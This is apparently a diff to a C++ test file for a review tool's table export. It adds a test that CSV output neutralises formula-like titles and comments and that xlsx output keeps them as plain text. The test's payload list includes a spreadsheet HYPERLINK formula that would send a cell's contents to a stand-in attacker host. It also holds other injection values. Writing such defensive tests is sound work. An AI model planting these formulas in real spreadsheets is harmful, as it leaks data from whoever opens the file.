@@ -70,14 +70,17 @@ bool isNumber(const QVariant& v)
     return v.typeId() == QMetaType::LongLong || v.typeId() == QMetaType::Int || v.typeId() == QMetaType::Double;
 }
 
-/// The table as the readers give it back: text cells, numbers written the reader's way.
-QList<QStringList> expectedText(const exporting::Table& table)
+enum class Written { Xlsx, Csv };
+
+/// The table as the readers give it back: text cells, numbers written the reader's way. A CSV neutralises
+/// text a spreadsheet would run as a formula; an xlsx holds it as typed, a string cell.
+QList<QStringList> expectedText(const exporting::Table& table, Written written = Written::Xlsx)
 {
     QList<QStringList> rows;
     for (const QVariantList& row : table.rows) {
         QStringList cells;
         for (const QVariant& v : row)
-            cells << io::csvCell(v);
+            cells << (written == Written::Xlsx && v.typeId() == QMetaType::QString ? v.toString() : io::csvCell(v));
         rows << cells;
     }
     return rows;
@@ -262,7 +265,7 @@ TEST_CASE("export: every table goes to CSV with a BOM and CRLF and reads back th
         RB_REQUIRE_OK(read);
         CHECK(read->encoding == u"UTF-8"_s);
         CHECK(read->header == table.headers());
-        requireSameText(readText(*read, table.columns.size()), expectedText(table));
+        requireSameText(readText(*read, table.columns.size()), expectedText(table, Written::Csv));
         CHECK(hasChinese(read->rows.first().cell(table.column(u"项目名称"_s))));
     }
 }
@@ -658,4 +661,71 @@ TEST_CASE("export: archiving through a connection in the middle of a change is r
     CHECK(filesIn(QFileInfo(target).absolutePath())
           == QStringList{u"round.rbdb"_s, u"round.rbdb-shm"_s, u"round.rbdb-wal"_s});
     RB_REQUIRE_OK(o.db->execScript("ROLLBACK;"));
+}
+
+TEST_CASE("export: titles and comments that look like formulas are neutralised in CSV and stay text in xlsx",
+          "[export][csv-formulas]")
+{
+    test::TempDir dir;
+    const QString path = scoredDemo(dir);
+    Opened o = openRound(path);
+    const QStringList payloads = {u"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")"_s,
+                                  u"+1"_s,
+                                  u"-2+3"_s,
+                                  u"@SUM(A1)"_s,
+                                  u"\t=1"_s,
+                                  u"\r=1"_s};
+    QStringList appCodes;
+    for (const QStringList& r : test::rows(*o.db, "SELECT code FROM application ORDER BY code", 1))
+        appCodes << r.first();
+    REQUIRE(appCodes.size() >= payloads.size());
+    for (qsizetype i = 0; i < payloads.size(); ++i) {
+        RB_REQUIRE_OK(o.db->exec("UPDATE application SET title = ?1 WHERE code = ?2", payloads[i], appCodes[i]));
+        // Every score comment of the application too: the experts' text reaches the scores export.
+        RB_REQUIRE_OK(o.db->exec("UPDATE score SET comment = ?1 WHERE assignment_id IN (SELECT s.id FROM assignment s "
+                                 "JOIN application a ON a.id = s.application_id WHERE a.code = ?2)",
+                                 payloads[i], appCodes[i]));
+    }
+    const exporting::Table scores = build(o, exporting::What::Scores);
+    const int scoreColumn = scores.column(u"得分"_s);
+    REQUIRE(scoreColumn >= 0);
+
+    for (const QString& what : {u"applications"_s, u"scores"_s}) {
+        INFO(what.toStdString());
+        const QString csv = dir.path(what + u".csv"_s);
+        exportCli(path, what, csv, {u"--format"_s, u"csv"_s});
+        const QString text = QString::fromUtf8(test::fileBytes(csv));
+        CHECK(text.contains(u",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点击\"\")\","_s));
+        CHECK(text.contains(u",'+1,"_s));
+        CHECK(text.contains(u",'-2+3,"_s));
+        CHECK(text.contains(u",'@SUM(A1)"_s));
+        CHECK(text.contains(u",'\t=1"_s));
+        CHECK(text.contains(u",\"'\r=1\""_s));
+        Result<io::Table> read = io::readTable(csv);
+        RB_REQUIRE_OK(read);
+        for (const io::TableRow& row : read->rows) {
+            for (const QString& cell : row.cells) {
+                if (payloads.contains(cell))
+                    FAIL("a formula cell reached the CSV as it is: " << cell.toStdString());
+            }
+        }
+        if (what == u"scores"_s) {
+            // Scores stay numbers: written as the number, without an apostrophe or quotes.
+            REQUIRE(read->rows.size() == scores.rows.size());
+            for (qsizetype r = 0; r < read->rows.size(); ++r)
+                REQUIRE(read->rows[r].cell(scoreColumn) == io::csvCell(scores.rows[r][scoreColumn]));
+        }
+
+        const QString xlsx = dir.path(what + u".xlsx"_s);
+        exportCli(path, what, xlsx, {u"--format"_s, u"xlsx"_s});
+        const QByteArray sheet = zipEntry(xlsx, u"xl/worksheets/sheet1.xml"_s);
+        CHECK_FALSE(sheet.contains("<f>"));
+        CHECK_FALSE(sheet.contains("<f "));
+        const exporting::Table table = build(o, *exporting::whatFromKey(what));
+        requireSameTypes(table, xlsx);
+        Result<io::Table> workbook = io::readTable(xlsx);
+        RB_REQUIRE_OK(workbook);
+        // The workbook holds the text exactly as typed: a string cell is never run as a formula.
+        requireSameText(readText(*workbook, table.columns.size()), expectedText(table));
+    }
 }
